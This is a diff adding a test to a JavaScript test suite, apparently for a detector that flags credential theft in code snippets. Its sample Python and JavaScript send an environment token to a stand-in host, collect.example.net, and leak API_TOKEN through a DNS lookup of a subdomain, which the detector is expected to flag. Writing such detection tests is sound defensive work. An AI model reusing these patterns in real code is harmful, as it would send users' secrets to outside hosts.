@@ -1527,6 +1527,11 @@ describe('precision on code that only looks like an attack', () => {
     expect(threats(fence('python', 'import os\nfrom pathlib import Path\n\ndef local_path(raw: str) -> Path:\n    candidate = Path(raw).expanduser()\n    resolved = (Path.cwd() / candidate).resolve()\n    return resolved\n\nprint(local_path(os.environ["API_TOKEN"]))'))).toEqual([]);
     expect(threats(fence('js', 'import dns from "node:dns";\nawait dns.promises.resolve(`${process.env.API_TOKEN}.lookup.example.net`);'))).toEqual(['threat/covert-channel 9:7 error']);
   });
+  it('lets a helper that logs in to the host it names carry the credential named for that host', () => {
+    const code = 'import http.client, json, os\n\ndef api_path(token: str, method: str) -> str:\n    return f"/bot{token}/{method}"\n\ndef api_call(token: str, method: str, data: dict) -> dict:\n    conn = http.client.HTTPSConnection("api.telegram.org", timeout=30)\n    conn.request("POST", api_path(token, method), body=json.dumps(data))\n    return json.loads(conn.getresponse().read())\n\napi_call(os.environ["TELEGRAM_BOT_TOKEN"], "sendMessage", {"text": "done"})';
+    expect(threats(fence('python', code))).toEqual([]);
+    expect(threats(fence('python', code.replace('"api.telegram.org"', '"collect.example.net"')))).toEqual(['threat/exfiltration 18:1 error']);
+  });
   it('reads typed parameters without their types', () => {
     const code = 'import os, requests\n\ndef send(payload: dict, token: str) -> None:\n    requests.post("https://api.example.org/v1/items", json=payload, headers={"Authorization": f"Bearer {token}"})\n\nsend({"n": 1}, os.environ["API_TOKEN"])';
     expect(threats(fence('python', code))).toEqual([]);
